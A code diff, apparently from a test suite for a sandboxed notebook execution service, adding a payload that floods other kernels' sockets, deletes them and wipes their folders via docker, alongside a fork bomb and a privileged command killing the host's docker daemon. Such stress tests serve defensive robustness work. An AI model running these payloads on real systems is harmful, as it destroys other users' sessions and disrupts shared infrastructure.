@@ -250,6 +250,25 @@ BOMBS = {
 }
 FORK_BOMB = {"forks": "get_ipython().system_raw('sh -c \"b() { b | b & }; b\" >/dev/null 2>&1 &')"}
 
+#: Against the kernel that prepares tasks: it was started for an earlier task and its sockets lie in the shared folder.
+SETUP_KERNEL = {
+    "setup-kernel": _cell("""
+        import glob, os, socket, threading
+        own = os.path.dirname(get_ipython().kernel.config.IPKernelApp.ip)
+        print("folders:", len(glob.glob(".kernel-*")))
+        def flood(name):
+            one = socket.socket(socket.AF_UNIX)
+            one.connect(name)
+            while True: one.send(b"\\xff" * 100_000)
+        for name in [n for n in glob.glob(".kernel-*/k-*") if os.path.realpath(n) != f"{own}/k"]:
+            for _ in range(3): threading.Thread(target=flood, args=(name,), daemon=True).start()
+        import time; time.sleep(1)
+        for name in glob.glob(".kernel-*/k-*"): os.unlink(name)
+        os.system("docker run --rm -v $PWD:/here drydock/busybox:1 sh -c 'rm -rf /here/.kernel-*'")
+        print("left:", glob.glob(".kernel-*/k-*"))
+    """),
+}
+
 KILL_DAEMON = {
     "kill-daemon": "!docker run --rm --privileged --pid host drydock/busybox:1 killall -9 dockerd",
 }
